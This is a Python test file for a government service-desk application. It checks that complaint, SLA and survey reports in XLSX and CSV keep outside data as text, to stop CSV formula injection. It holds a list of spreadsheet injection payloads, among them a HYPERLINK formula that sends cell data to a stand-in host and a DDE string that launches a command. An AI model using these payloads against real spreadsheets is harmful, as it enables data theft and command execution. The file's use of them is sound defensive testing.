"""Spreadsheet cells from outside data are text, never formulas (issue #14, OWASP CSV injection).

Complaints, survey answers and officials' names that start with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return go through the same functions as the CLI (``loket complaints report``,
``loket report sla``, ``loket skm report``); every cell of every XLSX they write must be a
string cell holding the text, and LibreOffice must show the text, not a computed value.
"""

# ruff: noqa: F811  (pytest fixtures are imported from tests/conftest_complaints.py)

from __future__ import annotations

import csv
import io
import sqlite3
import subprocess
import tempfile
from datetime import date, datetime
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from loket.common.clock import WIB
from loket.complaints import book as cp
from loket.complaints.models import Complaint
from loket.complaints.rules import load_complaint_rules
from tests.conftest_complaints import (  # noqa: F401  (fixtures)
    Home,
    c_home,
    c_session,
    make_survey,
    office_parts,
    write_survey,
)

if TYPE_CHECKING:
    from openpyxl.cell.cell import Cell

PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?leak="&B2)',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[Cell]:
    """Every non-empty cell of every sheet of the XLSX at ``path``."""
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def _assert_text_only(path: Path, expected: set[str]) -> None:
    """No formula anywhere in ``path``; each of ``expected`` is somewhere a string cell."""
    cells = _cells(path)
    formulas = [(c.coordinate, c.value) for c in cells if c.data_type == "f"]
    assert formulas == [], f"{path.name}: formulas from outside data: {formulas}"
    as_text = {c.value for c in cells if c.data_type == "s"}
    # and re-typing one in Excel or LibreOffice keeps it text (the cell's leading apostrophe)
    unquoted = [
        (c.coordinate, c.value)
        for c in cells
        if isinstance(c.value, str) and c.value.startswith(TRIGGERS) and not c.quotePrefix
    ]
    assert unquoted == [], f"{path.name}: no quote prefix: {unquoted}"
    missing = {e for e in expected if not any(e in str(v) for v in as_text)}
    assert not missing, f"{path.name}: not kept as text: {missing}"


# ---------------------------------------------------------------------------------------
# the monthly complaint report (loket complaints report --month)


def _add_hostile_complaints(c_home: Home, session) -> list[Complaint]:  # type: ignore[no-untyped-def]
    from loket.approval.officials import load_officials

    rules = load_complaint_rules(c_home.rules / "complaints.yaml")
    from tests.identity.helpers import actor_for

    officer = actor_for(  # the officer, authenticated
        load_officials(c_home.rules / "officials.yaml"), c_home.people["petugas_pengaduan"]
    )
    made = []
    for i, payload in enumerate(PAYLOADS):
        c = cp.add_complaint(
            session,
            rules,
            cp.NewComplaint(
                channel=next(iter(rules.channels)),
                complainant_name=payload,
                subject=payload,
                text=payload,
                type=next(iter(rules.types)),
                received_at=datetime(2026, 11, 3 + i, 9, 0, tzinfo=WIB),
                weight="ringan",
                handler=officer,
                phone=payload,
                email=None,
            ),
            store=c_home.var / "complaints",
            **office_parts(c_home),
        )
        cp.answer(session, rules, c, payload, by=officer, at=datetime(2026, 11, 20, tzinfo=WIB))
        made.append(c)
    session.commit()
    return made


def _complaint_report(c_home: Home, session) -> tuple[Path, set[str]]:  # type: ignore[no-untyped-def]
    """The XLSX of ``loket complaints report --month 2026-11`` and the texts it must hold."""
    from loket.common.settings import load_settings
    from loket.complaints import report as rep

    made = _add_hostile_complaints(c_home, session)
    _version, files = rep.draft_month(load_settings(), "2026-11", pdf=False)
    stored = {
        v
        for c in made
        for v in (c.complainant_name, c.complainant_phone, c.subject, c.text, c.answer)
        if v
    }
    assert any(v.startswith("=") for v in stored)  # the domain keeps the payloads
    return next(f for f in files if f.suffix == ".xlsx"), stored


def test_complaint_report_xlsx_holds_outside_text_as_text(c_home: Home, c_session) -> None:
    xlsx, stored = _complaint_report(c_home, c_session)
    _assert_text_only(xlsx, stored)
    from openpyxl import load_workbook

    listing = load_workbook(xlsx)["Daftar Pengaduan"]
    header = [c.value for c in listing[1]]
    rows = list(listing.iter_rows(min_row=2))
    names = [r[header.index("Pengadu")].value for r in rows]
    assert len(names) == len(PAYLOADS) and set(names) == {p.strip() for p in PAYLOADS}
    assert all(r[0].data_type == "n" for r in rows)  # the running number stays a number


#: LibreOffice's CSV export options: comma, double quote, UTF-8, from row 1, ..., and as token
#: 12 the (1-based) sheet to export (LibreOffice >= 7.2).
CSV_EXPORT = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,{sheet}"


def _calc_sheet_as_csv(binary: str, xlsx: Path, sheet: int) -> list[list[str]]:
    """Sheet number ``sheet`` of ``xlsx`` as LibreOffice Calc shows it, read back from CSV."""
    with (
        tempfile.TemporaryDirectory(prefix="loket-lo-") as profile,
        tempfile.TemporaryDirectory(prefix="loket-csv-") as out,
    ):
        cmd = [binary, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore"]
        cmd += ["--convert-to", CSV_EXPORT.format(sheet=sheet), "--outdir", out, str(xlsx)]
        proc = subprocess.run(cmd, capture_output=True, text=True, timeout=240, check=False)
        made = sorted(Path(out).glob("*.csv"))
        assert made, f"LibreOffice wrote no CSV: {proc.stderr or proc.stdout}"
        return list(csv.reader(io.StringIO(made[0].read_text(encoding="utf-8"))))


@pytest.mark.e2e
def test_libreoffice_shows_the_text_not_a_computed_value(c_home: Home, c_session) -> None:
    from loket.documents.officedocs import soffice_binary

    binary = soffice_binary()
    if binary is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    if not (Path(binary).resolve().parent / "libscfiltlo.so").exists():
        pytest.skip("LibreOffice Calc is not installed (apt-get install libreoffice-calc-nogui)")
    xlsx, stored = _complaint_report(c_home, c_session)
    header, *rows = _calc_sheet_as_csv(binary, xlsx, sheet=3)  # "Daftar Pengaduan"
    assert header[:5] == ["No", "Nomor", "Diterima", "Pengadu", "Kontak"]
    names = {row[3] for row in rows}
    assert names == {p.strip() for p in PAYLOADS}  # "=1+1" shown as such, not as 2
    assert names <= stored
    assert {row[4].strip() for row in rows} == {p.strip() for p in PAYLOADS}


# ---------------------------------------------------------------------------------------
# the SLA report (loket report sla --month): officials' names and NIPs from the register


def test_sla_report_xlsx_holds_official_names_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from loket.approval.chain import load_chain
    from loket.calendar.loading import office_calendar
    from loket.common.db import make_engine, migrate
    from loket.common.settings import Settings
    from loket.sla.report import write_report
    from samples.sla_history import generate
    from tests.approval.approval_helpers import REPO

    db = tmp_path / "var" / "loket.db"
    db.parent.mkdir(parents=True)
    engine = make_engine(f"sqlite:///{db}")
    migrate(engine)
    engine.dispose()
    chain = load_chain(REPO / "rules" / "alur-persetujuan.yaml").for_service(
        "izin-kerja-radiografer"
    )
    now = datetime(2026, 11, 5, 5, 0, tzinfo=WIB)
    cal = office_calendar(REPO / "rules" / "calendar")
    generate(db, chain, cal, n=60, first=date(2026, 10, 1), last=date(2026, 10, 30), now=now)
    with sqlite3.connect(db) as con:
        nips = [r[0] for r in con.execute("SELECT DISTINCT actor_nip FROM card_entries")]
        assert len(nips) >= len(PAYLOADS)
        for nip, payload in zip(nips, PAYLOADS, strict=False):
            con.execute(
                "UPDATE card_entries SET actor_name = ? WHERE actor_nip = ?", (payload, nip)
            )
        con.execute("UPDATE card_entries SET actor_nip = ? WHERE actor_nip = ?", ("=1+1", nips[-1]))
    monkeypatch.setenv("LOKET_TEMPLATES", str(REPO / "templates"))
    settings = Settings(home=tmp_path, rules=REPO / "rules", database_url=f"sqlite:///{db}")
    _report, files = write_report(settings, "2026-10", cutoff=now, pdf=False)
    xlsx = next(f for f in files if f.suffix == ".xlsx")
    _assert_text_only(xlsx, set(PAYLOADS) | {"=1+1"})


# ---------------------------------------------------------------------------------------
# the yearly SKM report (loket skm report --year): answers from an imported survey file


def test_skm_report_xlsx_holds_survey_text_as_text(c_home: Home, c_session, tmp_path: Path) -> None:
    from loket.approval.officials import load_officials
    from loket.survey.report import write_report
    from loket.survey.rules import load_skm_rules
    from loket.survey.storage import import_survey, responses_of

    rows = make_survey(40, 3)
    for i, payload in enumerate(PAYLOADS):
        rows[i]["pekerjaan"] = payload
        rows[i]["pendidikan"] = payload
        rows[i]["layanan"] = payload
        rows[i]["jenis_kelamin"] = payload[:30]
    rows[-1]["umur"] = "=1+1"  # a rejected row: its file name and problem are listed
    path = write_survey(tmp_path / "=survei.csv", rows)
    import_survey(c_session, path)
    c_session.commit()
    _data, files = write_report(
        c_session,
        2026,
        rules=load_skm_rules(c_home.rules / "skm.yaml"),
        officials=load_officials(c_home.rules / "officials.yaml"),
        outbox=c_home.outbox,
        pdf=False,
    )
    xlsx = next(f for f in files if f.suffix == ".xlsx")
    stored = {r.occupation for r in responses_of(c_session, 2026) if r.occupation}
    assert '=HYPERLINK("http://example.invalid/?leak="&B2)' in stored
    _assert_text_only(xlsx, stored | {"=survei.csv"})


# ---------------------------------------------------------------------------------------
# CSV: no cell types, so a field a spreadsheet would evaluate gets a leading apostrophe


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_field_from_outside_gets_a_leading_apostrophe(payload: str) -> None:
    from loket.documents.cells import csv_field

    assert csv_field(payload) == "'" + payload
    buffer = io.StringIO()
    csv.writer(buffer).writerow([csv_field(payload), csv_field(12), csv_field(2.5)])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row == ["'" + payload, "12", "2.5"]


@pytest.mark.parametrize("value", ["Budi", "0812 3456", "", "a=b", "'=1"])
def test_csv_field_leaves_ordinary_text_and_numbers_alone(value: str) -> None:
    from loket.documents.cells import csv_field

    assert csv_field(value) == value
    assert csv_field(7) == 7 and csv_field(None) is None
